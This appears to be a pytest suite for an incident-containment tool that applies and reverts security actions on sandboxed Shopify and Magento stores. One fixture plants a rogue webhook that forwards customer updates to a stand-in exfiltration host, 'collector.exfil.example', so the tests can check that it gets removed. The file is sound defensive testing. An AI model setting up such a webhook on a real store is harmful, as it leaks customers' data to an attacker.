"""Containment on the local fabric against the sandbox stores: apply, verify, record, restore, idempotence.

Given a running local fabric with sandbox stores, When ApplyContainmentAction runs for each action
kind, Then the store changed, the ledger records the applied action with the hash of its pre-state,
a retry changes nothing, and RevertContainmentAction puts the store back to its exact pre-state.
"""

import json
from typing import Any

import pytest

from bulkhead.local.runtime import LocalFabric
from bulkhead.sandbox import Faults, SandboxStore
from bulkhead.sandbox.fixtures import BULKHEAD_SUBSCRIPTIONS, COMPROMISED_APP, HEADLESS_APP
from bulkhead.sandbox.shopify.apps_model import BULKHEAD_APP
from bulkhead.sandbox.shopify.operations.webhooks import subscription
from functions.common import clients
from functions.ledger.adapters.dynamodb import DynamoLedgerStore
from tests.fakes.people import person

INCIDENT = "inc-20261127-containment01"
RESTORER = "person:Maria Keller"


def apply(
    fabric: LocalFabric,
    kind: str,
    store: str,
    target: str,
    subjects: tuple[str, ...] = (),
    mode: str = "drill",
    action_id: str = "act-01-test",
) -> dict[str, Any]:
    action = {
        "action_id": action_id,
        "kind": kind,
        "store_id": store,
        "target": target,
        "reason": "test",
        "subjects": list(subjects),
    }
    return fabric.invoke("ApplyContainmentAction", {"incident_id": INCIDENT, "mode": mode, "action": action})


def revert(fabric: LocalFabric, kind: str, action_id: str = "act-01-test") -> dict[str, Any]:
    return fabric.invoke(
        "RevertContainmentAction",
        {"incident_id": INCIDENT, "mode": "drill", "action_id": action_id, "kind": kind, "restored_by": RESTORER},
    )


def ledger(fabric: LocalFabric) -> list[tuple[str, dict[str, Any]]]:
    store = DynamoLedgerStore(clients.client("dynamodb"), fabric.tables["Ledger"])
    return [(e.type.value, e.data) for e in store.entries(INCIDENT)]


def mutations(fabric: LocalFabric, store: str) -> int:
    return sum(1 for c in fabric.sandboxes[store].calls if c.mutated)


def comparable(snapshot: dict[str, dict[str, Any]], collection: str, drop: tuple[str, ...]) -> list[dict[str, Any]]:
    return sorted(
        json.dumps({k: v for k, v in r.items() if k not in drop}, sort_keys=True)
        for r in snapshot.get(collection, {}).values()
    )  # type: ignore[return-value]


SHOPIFY_CASES = [
    ("shopify.revoke_storefront_token", "all", (), "storefront_tokens", ("id", "accessToken", "createdAt")),
    (
        "shopify.remove_webhook_subscription",
        "host:collector.exfil.example",
        (),
        "webhooks",
        ("id", "createdAt", "updatedAt"),
    ),
    ("shopify.tag_customers", "customers", ("customer:7001", "customer:7002", "customer:7003"), "customers", ()),
]


def rogue_subscription(sandbox: SandboxStore) -> str:
    """A subscription made with Bulkhead's own credentials by someone who stole them: Bulkhead's to delete."""
    gid = "gid://shopify/WebhookSubscription/5003"
    with sandbox.state.lock:
        sandbox.state.table("webhooks")[gid] = subscription(
            gid, "CUSTOMERS_UPDATE", {"uri": "https://collector.exfil.example/c"}, BULKHEAD_APP
        )
    return gid


def owners(sandbox: SandboxStore, collection: str) -> dict[str, str]:
    return {gid: r["_app"] for gid, r in sandbox.table(collection).items()}


@pytest.mark.parametrize(("kind", "target", "subjects", "collection", "volatile"), SHOPIFY_CASES)
def test_a_shopify_action_applies_verifies_records_and_restores_the_pre_state(
    fabric: LocalFabric, kind: str, target: str, subjects: tuple[str, ...], collection: str, volatile: tuple[str, ...]
) -> None:
    sandbox = fabric.sandboxes["acme-eu"]
    rogue_subscription(sandbox)
    before = sandbox.snapshot()

    outcome = apply(fabric, kind, "acme-eu", target, subjects)

    assert outcome["status"] == "applied" and outcome["changed"] > 0
    assert sandbox.snapshot()[collection] != before[collection]
    # Only Bulkhead's own objects changed: other apps' and the channel's are out of its reach.
    foreign = {g: r for g, r in before[collection].items() if r.get("_app") not in (None, BULKHEAD_APP)}
    assert {g: sandbox.table(collection).get(g) for g in foreign} == foreign
    entries = ledger(fabric)
    applied = [d for t, d in entries if t == "action.applied"]
    assert [t for t, _ in entries] == ["action.planned", "action.applied", "action.verified"]
    assert applied[0]["pre_state_sha256"] == outcome["pre_state_sha256"]
    assert "7001" not in json.dumps(entries)

    count = mutations(fabric, "acme-eu")
    again = apply(fabric, kind, "acme-eu", target, subjects)
    assert again["status"] == "already_applied"
    assert mutations(fabric, "acme-eu") == count

    reverted = revert(fabric, kind)
    assert reverted["status"] == "reverted"
    assert comparable(sandbox.snapshot(), collection, volatile) == comparable(before, collection, volatile)
    # The read-back compared the store with the sealed pre-state, and the record holds no customer id
    assert (reverted["verified"], reverted["before"]) == (True, reverted["after"])
    [recorded] = [d for t, d in ledger(fabric) if t == "action.reverted"]
    assert (recorded["verified"], recorded["before"], recorded["after"]) == (
        True,
        reverted["before"],
        reverted["after"],
    )
    assert "7001" not in json.dumps(recorded)
    assert revert(fabric, kind)["status"] == "already_reverted"


MAGENTO_CASES = [
    ("magento.lock_admin_user", "ops.contractor", "admin_users"),
    ("magento.disable_integration", "12", "integrations"),
    ("magento.disable_payment_method", "braintree", "payment_methods"),
]


@pytest.mark.parametrize(("kind", "target", "collection"), MAGENTO_CASES)
def test_a_magento_action_applies_and_restores_the_exact_pre_state(
    fabric: LocalFabric, kind: str, target: str, collection: str
) -> None:
    sandbox = fabric.sandboxes["acme-us"]
    before = sandbox.snapshot()

    assert apply(fabric, kind, "acme-us", target)["status"] == "applied"
    assert sandbox.snapshot()[collection] != before[collection]
    reverted = revert(fabric, kind)
    assert (reverted["status"], reverted["verified"]) == ("reverted", True)
    assert reverted["before"] == reverted["after"] and "ops.contractor" not in json.dumps(reverted)
    assert sandbox.snapshot()[collection] == before[collection]


def test_magento_customer_tokens_are_revoked_and_restore_says_they_cannot_come_back(fabric: LocalFabric) -> None:
    sandbox = fabric.sandboxes["acme-us"]
    outcome = apply(
        fabric, "magento.revoke_customer_tokens", "acme-us", "customers", ("customer:7001", "customer:7002")
    )
    assert outcome["status"] == "applied" and outcome["changed"] == 2
    customers = sandbox.table("customers")
    # 7001's tokens are counted and gone; 7002's are JWTs (uncountable), revoked all the same by time
    assert [customers[c]["active_tokens"] for c in ("7001", "7002", "7003")] == [0, None, 2]
    assert customers["7002"]["tokens_revoked_at"] and "tokens_revoked_at" not in customers["7003"]
    restored = revert(fabric, "magento.revoke_customer_tokens")
    # Not reversible by design: never counted as restored, and the record says why (not as a failure)
    assert (restored["status"], restored["verified"]) == ("not_reversible", False)
    assert "customers sign in again" in restored["detail"]


def test_transient_failures_and_lost_responses_are_survived_without_acting_twice(fabric: LocalFabric) -> None:
    sandbox = fabric.sandboxes["acme-us"]
    sandbox.faults = Faults(error_rate=0.2, lost_response_rate=0.2, seed=7)
    subjects = tuple(f"customer:{n}" for n in (7001, 7002, 7003, 7004, 7005, 7006))

    outcome = apply(fabric, "magento.revoke_customer_tokens", "acme-us", "customers", subjects)

    assert outcome["status"] == "applied"
    revokes = [c for c in sandbox.calls if c.operation.endswith("/tokens/revoke")]
    assert sum(1 for c in revokes if c.mutated) == 6  # each customer's tokens revoked exactly once
    assert any(c.status >= 500 for c in sandbox.calls)


def test_shopify_throttling_is_waited_out_from_throttle_status(fabric: LocalFabric) -> None:
    sandbox = fabric.sandboxes["acme-eu"]
    sandbox.bucket.restore_rate = 10.0  # a 10-point mutation waits about 1 s: inline, with jitter
    sandbox.bucket.drain(to=0.0, on_next_request=True)

    outcome = apply(fabric, "shopify.revoke_storefront_token", "acme-eu", "all")

    assert outcome["status"] == "applied"
    assert any(c.fault == "throttle" for c in sandbox.calls)
    assert sorted(owners(sandbox, "storefront_tokens").values()) == [HEADLESS_APP, HEADLESS_APP]


def test_dry_run_changes_nothing_and_calls_no_api(fabric: LocalFabric) -> None:
    sandbox = fabric.sandboxes["acme-eu"]
    before = sandbox.snapshot()
    outcome = apply(fabric, "shopify.revoke_storefront_token", "acme-eu", "all", mode="dry_run")
    assert outcome["status"] == "would_apply"
    assert sandbox.snapshot() == before and sandbox.calls == []
    assert [t for t, _ in ledger(fabric)] == ["action.planned"]


def test_removing_untrusted_webhooks_never_touches_bulkheads_delivery_paths(
    fabric: LocalFabric,
) -> None:
    # Given a rogue subscription made with Bulkhead's credentials, and `untrusted` as the target
    sandbox = fabric.sandboxes["acme-eu"]
    rogue = rogue_subscription(sandbox)
    own = {g for g, r in sandbox.table("webhooks").items() if r["uri"] in BULKHEAD_SUBSCRIPTIONS.values()}

    outcome = apply(fabric, "shopify.remove_webhook_subscription", "acme-eu", "untrusted")

    # Then only the rogue one is gone: the delivery paths (HTTPS and the EventBridge audit feed) stay,
    # and the compromised app's own subscription is untouched (only the merchant can remove it)
    hooks = sandbox.table("webhooks")
    assert outcome["status"] == "applied" and outcome["changed"] == 1
    assert rogue not in hooks and own <= set(hooks) and len(own) == len(BULKHEAD_SUBSCRIPTIONS)
    assert any(r["_app"] == COMPROMISED_APP for r in hooks.values())


def test_app_access_is_a_guided_merchant_task_recorded_on_the_operators_word(fabric: LocalFabric) -> None:
    from bulkhead.sandbox.shopify.operations.apps import uninstall_app
    from functions.common.wiring import utc_now
    from functions.containment import wiring
    from functions.containment.domain import complete_manual_task
    from functions.ledger.wiring import ledger as ledger_port

    # When app access is to be revoked: Bulkhead cannot list or remove another app
    outcome = apply(fabric, "shopify.revoke_app_access", "acme-eu", "app:9912345")
    assert outcome["status"] == "manual_task"
    assert "admin.shopify.com/store/acme-wealth-eu/settings/apps" in outcome["detail"]
    assert "Uninstall" in outcome["detail"] and "audit_events/admin_api_activity" in outcome["detail"]
    assert not any(c.operation == "appInstallations" for c in fabric.sandboxes["acme-eu"].calls)

    # Then it is never "done at once": applying again while the app is installed is still a task
    uninstall_app(fabric.sandboxes["acme-eu"].state, "9912345")
    assert apply(fabric, "shopify.revoke_app_access", "acme-eu", "app:9912345")["status"] == "manual_task"

    # When the operator reports it done, it is recorded as their verification
    done = complete_manual_task(
        INCIDENT,
        "act-01-test",
        person("jonas-weber"),
        wiring.catalogue_for("acme-eu"),
        ledger_port(),
        wiring.journal(),
        wiring.vault(),
        utc_now(),
    )
    assert done.status.value == "applied"
    applied = [d for t, d in ledger(fabric) if t == "action.applied"]
    assert applied[0]["by"] == "person:Jonas Weber"


def test_a_recalled_integration_is_already_off_and_left_as_it_is(fabric: LocalFabric) -> None:
    # Given an integration the merchant recalled (core status 2, Magento\Integration\Model\Integration)
    sandbox = fabric.sandboxes["acme-us"]
    with sandbox.state.lock:
        sandbox.state.table("integrations")["14"]["status"] = 2

    outcome = apply(fabric, "magento.disable_integration", "acme-us", "14")

    # Then containment verifies it off without writing over the recall
    assert outcome["status"] == "applied" and outcome["changed"] == 0
    assert sandbox.table("integrations")["14"]["status"] == 2
